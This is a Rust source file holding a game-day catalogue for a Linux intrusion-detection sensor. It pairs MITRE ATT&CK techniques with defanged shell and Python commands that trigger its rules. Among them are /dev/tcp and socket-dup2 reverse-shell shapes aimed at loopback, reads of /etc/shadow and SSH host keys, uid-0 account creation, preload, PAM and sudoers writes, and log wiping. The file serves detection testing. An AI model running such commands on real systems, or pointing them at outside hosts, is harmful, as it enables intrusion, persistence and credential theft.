//! The game-day catalogue: behaviour classes tagged with their MITRE ATT&CK technique, each tried in
//! several spellings (absolute, relative and aliased paths, renamed tools) so a rule that only knows one
//! spelling shows up as a partial detection.
//!
//! Scripts run with `/bin/sh -c` (or a copy of it under another name). Placeholders: `{w}` the work
//! directory, `{t}` a unique tag (`tripline-gameday-<pid>`), `{port}` a loopback listener gameday
//! opened, `{self}` the tripline binary, `{py}` the system Python, `{tpid}` the exporter's pid.
//! Everything a script creates outside `{w}` is removed by the same script; writes to existing
//! files are empty appends (`: >> file`), which open the file for writing and change nothing.
//! Account scenarios keep each state for half a second: the account databases are diffed when their
//! write is processed, and a change undone faster than that (~0.1 s) is not seen (docs/detection.md).

/// What a spelling is expected to produce.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// A rule finding.
    Rule,
    /// A baseline anomaly (only while the exporter monitors; not a failure while it learns).
    Anomaly,
    /// Not detected yet, for the reason given (kept so the gap stays visible).
    Gap(&'static str),
}

#[derive(Debug, Clone, Copy)]
pub enum Step {
    /// `/bin/sh -c SCRIPT`.
    Sh(&'static str),
    /// A copy of `/bin/sh` named NAME in the work directory runs `-c SCRIPT` (a renamed tool).
    As(&'static str, &'static str),
    /// The system Python runs `-c SCRIPT`.
    Py(&'static str),
    /// A copy of the system Python named NAME runs `-c SCRIPT`.
    PyAs(&'static str, &'static str),
    /// `tripline gameday-helper memfd-exec /bin/true`.
    MemfdExec,
    /// A copy of tripline named NAME runs `gameday-helper connect 127.0.0.1:{port}`.
    ConnectAs(&'static str),
    /// A copy of tripline named NAME runs `gameday-helper listen`.
    ListenAs(&'static str),
}

#[derive(Debug, Clone, Copy)]
pub struct Spelling {
    pub label: &'static str,
    pub step: Step,
    pub expect: Expect,
    /// The spelling runs only when this path exists (the facility is installed).
    pub requires: Option<&'static str>,
}

#[derive(Debug)]
pub struct Scenario {
    pub name: &'static str,
    pub tactic: &'static str,
    pub technique: &'static str,
    pub what: &'static str,
    pub spellings: &'static [Spelling],
}

pub const LOOPBACK: &str =
    "the rule leaves loopback peers out on purpose; a real C2 address outside 127.0.0.0/8 matches";

const fn s(label: &'static str, step: Step, expect: Expect) -> Spelling {
    Spelling {
        label,
        step,
        expect,
        requires: None,
    }
}

const fn r(label: &'static str, step: Step, expect: Expect, requires: &'static str) -> Spelling {
    Spelling {
        label,
        step,
        expect,
        requires: Some(requires),
    }
}

use Expect::{Anomaly, Gap, Rule};
use Step::{As, ConnectAs, ListenAs, MemfdExec, Py, PyAs, Sh};

/// Python one-liner: connect to the gameday listener and dup2 the socket (the reverse-shell shape,
/// without a shell).
const PY_SOCKET_DUP2: &str = "import socket,os;s=socket.create_connection(('127.0.0.1',{port}));os.dup2(s.fileno(),9);s.close()";
/// Python: attach to and detach from a child `sleep` with ptrace.
const PY_PTRACE: &str = "import ctypes,subprocess,time;p=subprocess.Popen(['sleep','3']);l=ctypes.CDLL(None,use_errno=True);l.ptrace(16,p.pid,0,0);time.sleep(0.2);l.ptrace(17,p.pid,0,0);p.kill();p.wait()";
/// Python: load a two-instruction socket-filter BPF program (r0 = 0; exit) and close it.
const PY_BPF: &str = "import ctypes,os,struct;l=ctypes.CDLL(None,use_errno=True);ins=ctypes.create_string_buffer(struct.pack('<BBhiBBhi',0xb7,0,0,0,0x95,0,0,0));lic=ctypes.create_string_buffer(b'GPL');a=ctypes.create_string_buffer(struct.pack('<IIQQIIQI',1,2,ctypes.addressof(ins),ctypes.addressof(lic),0,0,0,0).ljust(144,b'\\0'));fd=l.syscall(321,5,a,144);fd>=0 and os.close(fd)";

pub const SCENARIOS: &[Scenario] = &[
    // --- Execution ---------------------------------------------------------------------------------
    Scenario {
        name: "web_shell",
        tactic: "execution",
        technique: "T1505.003",
        what: "a web-server-named process starts a shell",
        spellings: &[
            s("nginx runs /bin/sh", As("nginx", "/bin/sh -c 'exit 0'; exit 0"), Rule),
            s("php-fpm runs sh from PATH", As("php-fpm8.2", "sh -c 'exit 0'; exit 0"), Rule),
            s("node runs bash", As("node", "bash -c 'exit 0'; exit 0"), Rule),
        ],
    },
    Scenario {
        name: "exec_from_tmp",
        tactic: "execution",
        technique: "T1204.002",
        what: "a program copied to a world-writable directory runs from there",
        spellings: &[
            s("absolute /tmp path", Sh("d=/tmp/{t}; mkdir -p $d && cp /bin/true $d/payload && $d/payload; rm -rf $d"), Rule),
            s("relative ./payload in /tmp", Sh("d=/tmp/{t}; mkdir -p $d && cp /bin/true $d/payload && cd $d && ./payload; rm -rf $d"), Rule),
            s("/dev/shm", Sh("d=/dev/shm/{t}; mkdir -p $d && cp /bin/true $d/kworker && $d/kworker; rm -rf $d"), Rule),
            s("/var/tmp", Sh("d=/var/tmp/{t}; mkdir -p $d && cp /bin/true $d/.x && $d/.x; rm -rf $d"), Rule),
        ],
    },
    Scenario {
        name: "fileless_exec",
        tactic: "defense-evasion",
        technique: "T1620",
        what: "a program runs from memory or a file descriptor, never from a path on disk",
        spellings: &[
            s("memfd_create + fexecve", MemfdExec, Rule),
            s("/dev/fd/N of an open binary", Sh("exec 3</bin/true; /dev/fd/3"), Rule),
        ],
    },
    Scenario {
        name: "interpreter_reverse_shell",
        tactic: "execution",
        technique: "T1059.006",
        what: "an interpreter one-liner wires a socket to file descriptors",
        spellings: &[
            s("python3 -c socket+dup2", Py(PY_SOCKET_DUP2), Rule),
            s("renamed python (svc-agent)", PyAs("svc-agent", PY_SOCKET_DUP2), Anomaly),
        ],
    },
    Scenario {
        name: "package_manager",
        tactic: "execution",
        technique: "T1072",
        what: "a package manager runs on a production host",
        spellings: &[
            s("dpkg --version", Sh("dpkg --version"), Rule),
            s("/usr/bin/apt-get --version", Sh("/usr/bin/apt-get --version"), Rule),
        ],
    },
    Scenario {
        name: "compiler_on_host",
        tactic: "defense-evasion",
        technique: "T1027.004",
        what: "a compiler runs on a production host (compile after delivery)",
        spellings: &[
            r("gcc --version", Sh("gcc --version"), Rule, "/usr/bin/gcc"),
            r("cc via alternatives", Sh("/usr/bin/cc -dumpversion"), Rule, "/usr/bin/cc"),
            r("make --version", Sh("make --version"), Rule, "/usr/bin/make"),
        ],
    },
    // --- Command and control -------------------------------------------------------------------------
    Scenario {
        name: "reverse_shell_dev_tcp",
        tactic: "command-and-control",
        technique: "T1095",
        what: "a shell wires its stdin and stdout to a TCP connection (/dev/tcp redirection)",
        spellings: &[
            r("/bin/bash", Sh("/bin/bash -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'"), Rule, "/bin/bash"),
            r("bash from PATH through a spare fd, from a subshell", Sh("bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; exec 0<&5 1>&5 5<&-; read -t 1 _ || true'; true"), Rule, "/bin/bash"),
            r("renamed bash (kworker)", Sh("cp /bin/bash {w}/kworker && {w}/kworker -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'"), Rule, "/bin/bash"),
        ],
    },
    Scenario {
        name: "relay_tool_shell",
        tactic: "command-and-control",
        technique: "T1059.004",
        what: "a network relay tool (nc -e, socat exec) starts a shell",
        spellings: &[
            s("nc starts /bin/sh", As("nc", "/bin/sh -c 'exit 0'; exit 0"), Rule),
            s("socat starts sh", As("socat", "sh -c 'exit 0'; exit 0"), Rule),
            s("ncat starts dash", As("ncat", "dash -c 'exit 0'; exit 0"), Rule),
        ],
    },
    Scenario {
        name: "new_executable_connects",
        tactic: "command-and-control",
        technique: "T1071",
        what: "a never-seen executable connects out",
        spellings: &[
            s("beacon binary", ConnectAs("gameday-beacon"), Anomaly),
            s("system-looking name", ConnectAs("systemd-resolve-helper"), Anomaly),
        ],
    },
    Scenario {
        name: "web_server_unusual_port",
        tactic: "command-and-control",
        technique: "T1571",
        what: "a web server connects out to a port web servers do not use",
        spellings: &[s("nginx connects to a high port", ConnectAs("nginx"), Gap(LOOPBACK))],
    },
    Scenario {
        name: "bind_shell_listen",
        tactic: "command-and-control",
        technique: "T1571",
        what: "a shell, interpreter or relay tool opens a listening port",
        spellings: &[
            s("python3-named listener", ListenAs("python3-gameday"), Rule),
            s("nc-named listener", ListenAs("nc"), Rule),
            s("perl-named listener", ListenAs("perl"), Rule),
        ],
    },
    // --- Persistence ---------------------------------------------------------------------------------
    Scenario {
        name: "shell_profile_system",
        tactic: "persistence",
        technique: "T1546.004",
        what: "a system-wide shell start-up file is added or changed",
        spellings: &[
            s("new /etc/profile.d script", Sh("umask 077; echo '# gameday' > /etc/profile.d/{t}.sh; rm -f /etc/profile.d/{t}.sh"), Rule),
            s("relative path from /etc/profile.d", Sh("cd /etc/profile.d && umask 077 && echo '# gameday' > ./{t}.sh; sleep 0.3; rm -f {t}.sh"), Rule),
            r("append to /etc/bash.bashrc", Sh(": >> /etc/bash.bashrc"), Rule, "/etc/bash.bashrc"),
            s("renamed tool (systemd-helper)", As("systemd-helper", ": >> /etc/profile"), Rule),
            s("dot-segment spelling /etc/./profile", Sh(": >> /etc/./profile"), Rule),
            s("via /tmp/../etc/profile", Sh(": >> /tmp/../etc/profile"), Rule),
        ],
    },
    Scenario {
        name: "shell_profile_user",
        tactic: "persistence",
        technique: "T1546.004",
        what: "a user's shell start-up file is changed",
        spellings: &[
            r("append to /root/.bashrc", Sh(": >> /root/.bashrc"), Rule, "/root/.bashrc"),
            r("relative ~/.profile", Sh("cd /root && : >> .profile; sleep 0.3"), Rule, "/root/.profile"),
            r("through a symlinked directory", Sh("ln -s /root {w}/home && : >> {w}/home/.bashrc"), Rule, "/root/.bashrc"),
        ],
    },
    Scenario {
        name: "ssh_authorized_keys",
        tactic: "persistence",
        technique: "T1098.004",
        what: "an SSH authorized_keys file is added or changed",
        spellings: &[
            s("new authorized_keys2-style file", Sh("d=/root/.ssh; n=0; [ -d $d ] || { mkdir -m 700 $d; n=1; }; : > $d/authorized_keys.{t}; rm -f $d/authorized_keys.{t}; [ $n = 1 ] && rmdir $d; true"), Rule),
            r("append to authorized_keys", Sh(": >> /root/.ssh/authorized_keys"), Rule, "/root/.ssh/authorized_keys"),
        ],
    },
    Scenario {
        name: "cron_job",
        tactic: "persistence",
        technique: "T1053.003",
        what: "a cron job is added",
        spellings: &[
            r("/etc/cron.d file", Sh("umask 077; echo '# gameday' > /etc/cron.d/{t}; rm -f /etc/cron.d/{t}"), Rule, "/etc/cron.d"),
            r("relative from /etc/cron.daily", Sh("cd /etc/cron.daily && umask 077 && : > ./{t}; sleep 0.3; rm -f {t}"), Rule, "/etc/cron.daily"),
            r("append to /etc/crontab", Sh(": >> /etc/crontab"), Rule, "/etc/crontab"),
        ],
    },
    Scenario {
        name: "systemd_service",
        tactic: "persistence",
        technique: "T1543.002",
        what: "a systemd system unit is added (not enabled, no reload)",
        spellings: &[
            s("/etc/systemd/system unit", Sh("umask 077; : > /etc/systemd/system/{t}.service; rm -f /etc/systemd/system/{t}.service"), Rule),
            r("/usr/lib/systemd/system unit", Sh("umask 077; : > /usr/lib/systemd/system/{t}.service; rm -f /usr/lib/systemd/system/{t}.service"), Rule, "/usr/lib/systemd/system"),
            r("/lib alias of merged /usr", Sh("umask 077; : > /lib/systemd/system/{t}.service; rm -f /lib/systemd/system/{t}.service"), Rule, "/lib/systemd/system"),
        ],
    },
    Scenario {
        name: "systemd_user_unit_or_timer",
        tactic: "persistence",
        technique: "T1053.006",
        what: "a systemd user unit or timer is added",
        spellings: &[
            r("/etc/systemd/user timer", Sh("umask 077; : > /etc/systemd/user/{t}.timer; rm -f /etc/systemd/user/{t}.timer"), Rule, "/etc/systemd/user"),
            r("/usr/lib/systemd/user unit", Sh("umask 077; : > /usr/lib/systemd/user/{t}.service; rm -f /usr/lib/systemd/user/{t}.service"), Rule, "/usr/lib/systemd/user"),
        ],
    },
    Scenario {
        name: "systemd_generator",
        tactic: "persistence",
        technique: "T1543.002",
        what: "a systemd generator is added (runs at every boot and daemon-reload)",
        spellings: &[
            r("/usr/lib/systemd/system-generators", Sh("umask 077; : > /usr/lib/systemd/system-generators/{t}; rm -f /usr/lib/systemd/system-generators/{t}"), Rule, "/usr/lib/systemd/system-generators"),
        ],
    },
    Scenario {
        name: "at_job",
        tactic: "persistence",
        technique: "T1053.002",
        what: "an at job file appears in the spool",
        spellings: &[
            r("Debian atjobs spool", Sh("umask 077; : > /var/spool/cron/atjobs/{t}; rm -f /var/spool/cron/atjobs/{t}"), Rule, "/var/spool/cron/atjobs"),
            r("Red Hat at spool", Sh("umask 077; : > /var/spool/at/{t}; rm -f /var/spool/at/{t}"), Rule, "/var/spool/at"),
        ],
    },
    Scenario {
        name: "init_script",
        tactic: "persistence",
        technique: "T1037.004",
        what: "a SysV init script or rc.local is added or changed",
        spellings: &[
            r("/etc/init.d script", Sh("umask 077; echo '# gameday' > /etc/init.d/{t}; rm -f /etc/init.d/{t}"), Rule, "/etc/init.d"),
            r("append to /etc/rc.local", Sh(": >> /etc/rc.local"), Rule, "/etc/rc.local"),
        ],
    },
    Scenario {
        name: "motd_script",
        tactic: "persistence",
        technique: "T1037",
        what: "an update-motd script is added (runs as root at SSH login; this one is not executable)",
        spellings: &[
            r("/etc/update-motd.d file", Sh("umask 077; : > /etc/update-motd.d/99-{t}; rm -f /etc/update-motd.d/99-{t}"), Rule, "/etc/update-motd.d"),
        ],
    },
    Scenario {
        name: "udev_rule",
        tactic: "persistence",
        technique: "T1546.017",
        what: "a udev rule is added",
        spellings: &[
            r("/etc/udev/rules.d", Sh("umask 077; echo '# gameday' > /etc/udev/rules.d/99-{t}.rules; rm -f /etc/udev/rules.d/99-{t}.rules"), Rule, "/etc/udev/rules.d"),
        ],
    },
    Scenario {
        name: "module_load_config",
        tactic: "persistence",
        technique: "T1547.006",
        what: "kernel module load or option config is added",
        spellings: &[
            r("/etc/modules-load.d", Sh("umask 077; echo '# gameday' > /etc/modules-load.d/{t}.conf; rm -f /etc/modules-load.d/{t}.conf"), Rule, "/etc/modules-load.d"),
            r("/etc/modprobe.d", Sh("umask 077; echo '# gameday' > /etc/modprobe.d/{t}.conf; rm -f /etc/modprobe.d/{t}.conf"), Rule, "/etc/modprobe.d"),
            r("append to /etc/modules", Sh(": >> /etc/modules"), Rule, "/etc/modules"),
        ],
    },
    Scenario {
        name: "kernel_module_load",
        tactic: "persistence",
        technique: "T1547.006",
        what: "a kernel module load is attempted (a file that is not a module, or an empty image: the kernel refuses it)",
        spellings: &[
            s("finit_module(2)", Py("import ctypes,os;l=ctypes.CDLL(None,use_errno=True);fd=os.open('/dev/null',os.O_RDONLY);l.syscall(313,fd,b'',0);os.close(fd)"), Rule),
            s("init_module(2) from memory, renamed loader", PyAs("insmod", "import ctypes;l=ctypes.CDLL(None,use_errno=True);b=ctypes.create_string_buffer(64);l.syscall(175,b,64,b'')"), Rule),
        ],
    },
    Scenario {
        name: "account_created",
        tactic: "persistence",
        technique: "T1136.001",
        what: "a local account is created (no home, no shell, removed at once)",
        spellings: &[
            s("useradd", Sh("useradd --system --no-create-home -s /usr/sbin/nologin tgd$$ && sleep 0.5; userdel tgd$$"), Rule),
            s("/usr/sbin/useradd by path", Sh("/usr/sbin/useradd --system --no-create-home -s /usr/sbin/nologin tge$$ && sleep 0.5; userdel tge$$"), Rule),
        ],
    },
    Scenario {
        name: "account_shell_changed",
        tactic: "persistence",
        technique: "T1098",
        what: "a service account is given a login shell",
        spellings: &[s("usermod -s /bin/bash", Sh("useradd --system --no-create-home -s /usr/sbin/nologin tgs$$ && sleep 0.5 && usermod -s /bin/bash tgs$$; sleep 0.5; userdel tgs$$"), Rule)],
    },
    // --- Privilege escalation ------------------------------------------------------------------------
    Scenario {
        name: "second_root_account",
        tactic: "privilege-escalation",
        technique: "T1078.003",
        what: "an account with uid 0 is added (locked, no shell, removed at once)",
        spellings: &[s("useradd -o -u 0", Sh("useradd -o -u 0 -g 0 --no-create-home -s /usr/sbin/nologin tgr$$ && sleep 0.5; userdel -f tgr$$"), Rule)],
    },
    Scenario {
        name: "privileged_group_member",
        tactic: "privilege-escalation",
        technique: "T1098.007",
        what: "an account is added to a privileged group",
        spellings: &[
            r("usermod -aG sudo", Sh("useradd --system --no-create-home -s /usr/sbin/nologin tgg$$ && sleep 0.5 && usermod -aG sudo tgg$$; sleep 0.5; userdel tgg$$"), Rule, "/usr/bin/sudo"),
            s("gpasswd -a adm", Sh("useradd --system --no-create-home -s /usr/sbin/nologin tgh$$ && sleep 0.5 && gpasswd -a tgh$$ adm >/dev/null; sleep 0.5; userdel tgh$$"), Rule),
        ],
    },
    Scenario {
        name: "sudoers_dropin",
        tactic: "privilege-escalation",
        technique: "T1548.003",
        what: "a sudoers drop-in is added (a comment only)",
        spellings: &[
            s("/etc/sudoers.d file", Sh("n=0; [ -d /etc/sudoers.d ] || { mkdir -m 750 /etc/sudoers.d; n=1; }; umask 337; echo '# gameday' > /etc/sudoers.d/{t}; rm -f /etc/sudoers.d/{t}; [ $n = 1 ] && rmdir /etc/sudoers.d; true"), Rule),
            r("append to /etc/sudoers", Sh(": >> /etc/sudoers"), Rule, "/etc/sudoers"),
        ],
    },
    Scenario {
        name: "account_database_edit",
        tactic: "privilege-escalation",
        technique: "T1098",
        what: "the account databases are opened for writing by something other than the account tools",
        spellings: &[
            s("append to /etc/passwd", Sh(": >> /etc/passwd"), Rule),
            s("renamed tool appends to /etc/shadow", As("dbus-helper", ": >> /etc/shadow"), Rule),
            s("relative ../etc/group from /tmp", Sh("cd /tmp && : >> ../etc/group; sleep 0.3"), Rule),
        ],
    },
    Scenario {
        name: "setuid_binary_gains_root",
        tactic: "privilege-escalation",
        technique: "T1548.001",
        what: "an unprivileged user gains root through a setuid copy of a binary",
        spellings: &[
            r("setuid copy of id", Sh("cp /usr/bin/id {w}/id && chmod 4755 {w}/id && setpriv --reuid=65534 --regid=65534 --clear-groups {w}/id >/dev/null"), Rule, "/usr/bin/setpriv"),
            r("renamed setuid copy", Sh("cp /usr/bin/id {w}/sysinfo && chmod 4755 {w}/sysinfo && setpriv --reuid=65534 --regid=65534 --clear-groups {w}/sysinfo >/dev/null"), Rule, "/usr/bin/setpriv"),
        ],
    },
    Scenario {
        name: "setuid_bit_set",
        tactic: "privilege-escalation",
        technique: "T1548.001",
        what: "a setuid bit is set on a file",
        spellings: &[
            s("in a watched binary directory", Sh("f=/usr/local/bin/.{t}; umask 077; : > $f && chmod 4700 $f; rm -f $f"), Rule),
            s("in /tmp", Sh("f=/tmp/{t}; : > $f && chmod 4700 $f; rm -f $f"), Rule),
        ],
    },
    Scenario {
        name: "file_capability_set",
        tactic: "privilege-escalation",
        technique: "T1548",
        what: "a file capability is set on a copy of a binary",
        spellings: &[r("setcap cap_net_raw", Sh("cp /bin/true {w}/cap && setcap cap_net_raw+ep {w}/cap"), Rule, "/usr/sbin/setcap")],
    },
    Scenario {
        name: "uid_switch_outside_login",
        tactic: "privilege-escalation",
        technique: "T1548",
        what: "a process run as an unprivileged user switches its effective uid (fails; the attempt is the signal)",
        spellings: &[r("setuid(0) as nobody", Sh("setpriv --reuid=65534 --regid=65534 --clear-groups {py} -c 'import os\ntry: os.setuid(0)\nexcept OSError: pass'"), Gap("only successful switches to root are a finding; the failed attempt is an event"), "/usr/bin/setpriv")],
    },
    // --- Defence evasion -----------------------------------------------------------------------------
    Scenario {
        name: "loader_preload",
        tactic: "defense-evasion",
        technique: "T1574.006",
        what: "the dynamic loader's preload file is written (empty: preloads nothing)",
        spellings: &[
            s("/etc/ld.so.preload", Sh("if [ -e /etc/ld.so.preload ]; then : >> /etc/ld.so.preload; else : > /etc/ld.so.preload; rm -f /etc/ld.so.preload; fi"), Rule),
            s("relative from /etc, renamed shell", As("ldconfig-helper", "cd /etc && if [ -e ld.so.preload ]; then : >> ld.so.preload; else : > ld.so.preload; rm -f ld.so.preload; fi; sleep 0.3"), Rule),
        ],
    },
    Scenario {
        name: "loader_library_path",
        tactic: "defense-evasion",
        technique: "T1574.006",
        what: "the loader's library search path configuration is added to (ldconfig is not run)",
        spellings: &[
            s("/etc/ld.so.conf.d file", Sh("umask 022; echo '# gameday' > /etc/ld.so.conf.d/{t}.conf; rm -f /etc/ld.so.conf.d/{t}.conf"), Rule),
            s("append to /etc/ld.so.conf", Sh(": >> /etc/ld.so.conf"), Rule),
        ],
    },
    Scenario {
        name: "pam_backdoor",
        tactic: "credential-access",
        technique: "T1556.003",
        what: "PAM configuration or a PAM module location is written",
        spellings: &[
            s("new /etc/pam.d service", Sh("umask 022; echo '# gameday' > /etc/pam.d/{t}; rm -f /etc/pam.d/{t}"), Rule),
            r("append to common-auth", Sh(": >> /etc/pam.d/common-auth"), Rule, "/etc/pam.d/common-auth"),
            r("module directory", Sh("umask 077; : > /usr/lib/x86_64-linux-gnu/security/{t}.so; rm -f /usr/lib/x86_64-linux-gnu/security/{t}.so"), Rule, "/usr/lib/x86_64-linux-gnu/security"),
        ],
    },
    Scenario {
        name: "shell_history_cleared",
        tactic: "defense-evasion",
        technique: "T1070.003",
        what: "a shell history file is emptied, replaced by a link to /dev/null, or deleted (a history file gameday creates)",
        spellings: &[
            s("truncate with : >", Sh("h=/root/.ash_history; [ -e $h ] && exit 0; echo ls > $h; : > $h; rm -f $h"), Rule),
            s("ln -sf /dev/null", Sh("h=/root/.ash_history; [ -e $h ] && exit 0; echo ls > $h; ln -sf /dev/null $h; rm -f $h"), Rule),
            s("unlink", Sh("h=/root/.ash_history; [ -e $h ] && exit 0; : >> $h; unlink $h"), Rule),
        ],
    },
    Scenario {
        name: "system_log_cleared",
        tactic: "defense-evasion",
        technique: "T1070.002",
        what: "a security log is emptied, replaced by a link to /dev/null, or deleted (a log file gameday creates under /var/log/audit, which it removes again if it made it)",
        spellings: &[
            s("truncate -s 0", Sh("d=/var/log/audit; m=0; [ -d $d ] || { mkdir $d && m=1; }; f=$d/{t}-cut.log; echo x > $f; truncate -s 0 $f; rm -f $f; [ $m = 0 ] || rmdir $d"), Rule),
            s("ln -sf /dev/null", Sh("d=/var/log/audit; m=0; [ -d $d ] || { mkdir $d && m=1; }; f=$d/{t}-ln.log; ln -sf /dev/null $f; rm -f $f; [ $m = 0 ] || rmdir $d"), Rule),
            s("python os.remove", Py("import os\nd='/var/log/audit'\nm=not os.path.isdir(d)\nm and os.mkdir(d)\nf=d+'/{t}-rm.log'\nopen(f,'a').close()\nos.remove(f)\nm and os.rmdir(d)"), Rule),
        ],
    },
    Scenario {
        name: "system_binary_replaced",
        tactic: "defense-evasion",
        technique: "T1036.005",
        what: "a file appears in a system binary directory",
        spellings: &[
            s("/usr/local/bin", Sh("umask 077; f=/usr/local/bin/.{t}; : > $f; rm -f $f"), Rule),
            s("relative from /usr/bin", Sh("cd /usr/bin && umask 077 && : > ./.{t}; sleep 0.3; rm -f .{t}"), Rule),
            s("/bin alias of merged /usr", Sh("umask 077; f=/bin/.{t}; : > $f; rm -f $f"), Rule),
            s("/usr/local/sbin", Sh("umask 077; f=/usr/local/sbin/.{t}; : > $f; rm -f $f"), Rule),
        ],
    },
    Scenario {
        name: "boot_files",
        tactic: "persistence",
        technique: "T1542",
        what: "a file appears under /boot",
        spellings: &[r("/boot", Sh("umask 077; : > /boot/.{t}; rm -f /boot/.{t}"), Rule, "/boot")],
    },
    Scenario {
        name: "ptrace_attach",
        tactic: "defense-evasion",
        technique: "T1055.008",
        what: "a process attaches to another with ptrace",
        spellings: &[
            s("python ctypes PTRACE_ATTACH", Py(PY_PTRACE), Rule),
            r("strace", Sh("strace -o /dev/null /bin/true"), Rule, "/usr/bin/strace"),
        ],
    },
    Scenario {
        name: "bpf_program_load",
        tactic: "defense-evasion",
        technique: "T1014",
        what: "a BPF program is loaded by a process that is not a known BPF user",
        spellings: &[
            s("python bpf(BPF_PROG_LOAD)", Py(PY_BPF), Rule),
            s("renamed python (kthreadd-helper)", PyAs("kthreadd-helper", PY_BPF), Rule),
        ],
    },
    Scenario {
        name: "sensor_signalled",
        tactic: "defense-evasion",
        technique: "T1562.001",
        what: "a process sends a signal to tripline (signal 0: a probe, nothing is delivered)",
        spellings: &[
            s("kill -0", Sh("kill -0 {tpid}"), Rule),
            s("python os.kill(pid, 0)", Py("import os;os.kill({tpid},0)"), Rule),
        ],
    },
    Scenario {
        name: "filesystem_mount",
        tactic: "defense-evasion",
        technique: "T1564",
        what: "a filesystem is mounted over a path (tmpfs in the work directory)",
        spellings: &[r("mount -t tmpfs", Sh("mkdir -p {w}/m && mount -t tmpfs gameday {w}/m && umount {w}/m"), Rule, "/usr/bin/mount")],
    },
    // --- Credential access ---------------------------------------------------------------------------
    Scenario {
        name: "shadow_read",
        tactic: "credential-access",
        technique: "T1003.008",
        what: "the password hashes are read by an unusual program",
        spellings: &[
            s("cat /etc/shadow", Sh("cat /etc/shadow > /dev/null"), Rule),
            s("renamed copy of cat", Sh("cp /bin/cat {w}/logrotate-helper && {w}/logrotate-helper /etc/shadow > /dev/null"), Rule),
            s("python open()", Py("open('/etc/shadow').read()"), Rule),
        ],
    },
    Scenario {
        name: "ssh_host_key_read",
        tactic: "credential-access",
        technique: "T1552.004",
        what: "an SSH private key is read",
        spellings: &[r("cat a host key", Sh("cat /etc/ssh/ssh_host_ed25519_key > /dev/null"), Rule, "/etc/ssh/ssh_host_ed25519_key")],
    },
    // --- Discovery -----------------------------------------------------------------------------------
    Scenario {
        name: "discovery_from_web_server",
        tactic: "discovery",
        technique: "T1082",
        what: "a web-server-named process runs system and account discovery commands",
        spellings: &[
            s("nginx runs id, uname", As("nginx", "/usr/bin/id >/dev/null; uname -a >/dev/null"), Anomaly),
            s("apache2 runs getent passwd", As("apache2", "getent passwd >/dev/null"), Anomaly),
        ],
    },
    Scenario {
        name: "network_service_scan",
        tactic: "discovery",
        technique: "T1046",
        what: "a new program connects to many local ports",
        spellings: &[s("python port sweep", PyAs("pscan", "import socket\nfor p in range(1,40):\n  s=socket.socket();s.settimeout(0.05)\n  try: s.connect(('127.0.0.1',p))\n  except OSError: pass\n  s.close()"), Rule)],
    },
];
